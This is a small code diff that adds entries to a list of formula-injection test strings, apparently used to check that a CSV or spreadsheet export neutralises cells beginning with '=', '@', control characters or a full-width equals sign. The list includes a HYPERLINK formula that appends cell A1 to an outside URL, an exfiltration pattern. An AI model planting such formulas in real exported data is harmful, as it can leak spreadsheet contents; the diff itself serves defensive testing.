@@ -17,6 +17,9 @@ FORMULAS = [
     "@SUM(A1)",
     "\t=1+1",
     "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    ";1",
     '=HYPERLINK("https://example.org/?"&A1)',
 ]
 
